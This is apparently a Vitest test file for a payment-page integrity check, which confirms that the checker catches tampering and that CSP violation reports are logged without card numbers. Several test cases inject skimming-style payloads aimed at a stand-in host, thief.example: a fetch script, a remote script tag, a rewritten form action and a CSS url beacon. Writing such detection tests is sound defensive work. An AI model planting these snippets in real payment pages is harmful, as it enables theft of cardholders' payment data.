import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, onTestFinished, test, vi } from 'vitest';
import { log } from '../../../platform/log.ts';
import { cardOf, openPayerWorld, type PayerWorld, pathOf } from '../../../testing/payer.ts';
import { faultsOf, fingerprintOf, type Received } from './page-check.ts';
import { page_scripts, sourceOf } from './page-scripts.ts';

let world: PayerWorld;
let url: string;
beforeAll(async () => {
  world = await openPayerWorld({ CARDS_URL: 'https://cards.example' });
  const about = { payment_profile: world.profile, merchant_reference: 'order', amount: 1000, language: 'en' };
  ({ url } = await world.make('/paymentlink', about));
});

async function received(address = url): Promise<Received> {
  const { statusCode: status, headers, body: text } = await world.open(address);
  const pairs = Object.entries(headers).map(([name, value]) => [name, String(value)] as [string, string]);
  return { url, status, headers: new Headers(pairs), text };
}
const changed = async (change: (page: { text: string; headers: Headers }) => unknown): Promise<string[]> => {
  const page = { ...(await received()) };
  change(page);
  return faultsOf(page);
};

describe('a check of a payment page', () => {
  test('finds nothing on any page that this version sends, and the same fingerprint each time', async () => {
    const first = await received();
    expect(faultsOf(first)).toEqual([]);
    expect(fingerprintOf(await received())).toBe(fingerprintOf(first));
    expect(faultsOf(await received('/pay/unknown'))).toEqual([]);
    const tried = await world.pay(url, cardOf('4000000000000002'));
    expect(faultsOf(await received(tried))).toEqual([]);
  });

  test.each([
    ['a script', 'not in the inventory', '</body>', '<script>fetch("https://thief.example")</script></body>'],
    [
      'a script of another server',
      'not in the inventory',
      '</head>',
      '<script src="https://thief.example/a.js"></script></head>',
    ],
    ['an event handler', 'onsubmit', '<form ', '<form onsubmit="steal()" '],
    ['a frame', 'iframe', '</main>', '<iframe src="https://thief.example"></iframe></main>'],
    [
      'another target of its form',
      'leads to https://thief.example/',
      'action="/pay/',
      'action="https://thief.example/',
    ],
    ['another style', 'style', '*{box-sizing', 'input{background:url(https://thief.example)}*{box-sizing'],
  ])('finds %s', async (_, fault, before, after) => {
    const faults = await changed((page) => {
      page.text = page.text.replace(before, after);
    });
    expect(faults).toEqual([expect.stringContaining(fault)]);
  });

  test.each([
    ['content-security-policy', "default-src *; script-src 'unsafe-inline' https:"],
    ['x-frame-options', 'SAMEORIGIN'],
    ['strict-transport-security', ''],
    ['set-cookie', 'id=1'],
  ])('finds the header %s with another value', async (name, value) => {
    expect(await changed(({ headers }) => headers.set(name, value))).not.toEqual([]);
  });

  test('has another fingerprint after a change of the page', async () => {
    const page = await received();
    expect(fingerprintOf({ ...page, text: page.text.replace('Pay', 'Play') })).not.toBe(fingerprintOf(page));
  });
});

test('the documentation has the inventory of scripts', () => {
  const text = readFileSync(new URL('../../../../../../docs/pci.md', import.meta.url), 'utf8');
  for (const script of page_scripts) {
    expect(text).toContain(sourceOf(script).slice(1, -1));
    expect(text).toContain(`| \`${script.name}\` |`);
    expect(text).toContain(script.purpose);
  }
});

test('a browser’s report of what the policy stopped is logged, without the page and without a number', async () => {
  const lines: unknown[][] = [];
  const spy = vi.spyOn(log, 'warn').mockImplementation((...line: unknown[]) => void lines.push(line));
  onTestFinished(() => spy.mockRestore());
  const report = {
    'document-uri': url,
    'effective-directive': 'script-src-elem',
    'blocked-uri': 'https://thief.example/4111111111111111',
    'script-sample': 'steal("4111111111111111")',
  };
  const send = (payload: string, type = 'application/csp-report') =>
    world.cards?.app.http.inject({ method: 'POST', url: '/pay/report', headers: { 'content-type': type }, payload });
  expect((await send(JSON.stringify({ 'csp-report': report })))?.statusCode).toBe(204);
  expect(lines[0]?.[0]).toMatchObject({
    stopped: { 'effective-directive': 'script-src-elem', 'blocked-uri': expect.stringContaining('thief.example') },
  });
  expect(JSON.stringify(lines)).not.toContain('4111111111111111');
  expect(JSON.stringify(lines)).not.toContain(pathOf(url));
  for (const text of ['', '{', '[]', '{"csp-report":1}']) expect((await send(text))?.statusCode).toBe(204);
  expect(lines).toHaveLength(1);
  expect((await send('x'.repeat(20_000)))?.statusCode).toBe(413);
});
